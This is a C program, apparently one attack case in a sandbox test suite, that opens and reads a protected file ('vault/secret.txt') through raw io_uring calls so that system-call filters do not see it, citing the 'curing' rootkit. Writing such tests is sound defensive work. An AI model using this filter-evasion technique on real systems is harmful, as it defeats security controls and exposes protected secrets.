/* technique: opens and reads the forbidden file by io_uring, which no filter of system calls sees
 * source: io_uring(7); the curing rootkit of 2025
 * success: the content of vault/secret.txt on the output
 * control: outside
 */
#include "attack.h"
#include <linux/io_uring.h>
#include <sys/mman.h>

static struct io_uring_params params;

/* Queues one request and waits for its result. */
static int submit(int ring, const struct io_uring_sqe *request)
{
	size_t sq_size = params.sq_off.array + params.sq_entries * sizeof(unsigned);
	size_t cq_size = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
	size_t sqes_size = params.sq_entries * sizeof *request;
	static char *sq, *cq;
	static struct io_uring_sqe *sqes;

	if (!sq) {
		sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
		cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
		sqes = mmap(NULL, sqes_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	}
	unsigned *tail = (unsigned *)(sq + params.sq_off.tail), *head = (unsigned *)(cq + params.cq_off.head);
	unsigned slot = *tail % params.sq_entries;
	sqes[slot] = *request;
	((unsigned *)(sq + params.sq_off.array))[slot] = slot;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	struct io_uring_cqe *done = (struct io_uring_cqe *)(cq + params.cq_off.cqes);
	int result = done[*head % params.cq_entries].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return result;
}

int main(void)
{
	char text[256];
	int ring = (int)syscall(SYS_io_uring_setup, 4, &params);

	if (ring < 0)
		return failed("io_uring_setup");
	int fd = submit(ring, &(struct io_uring_sqe){
				      .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)SECRET_FILE });
	int n = submit(ring, &(struct io_uring_sqe){
				     .opcode = IORING_OP_READ, .fd = fd, .addr = (uintptr_t)text, .len = sizeof text });
	return n <= 0 || write(1, text, (size_t)n) != n;
}
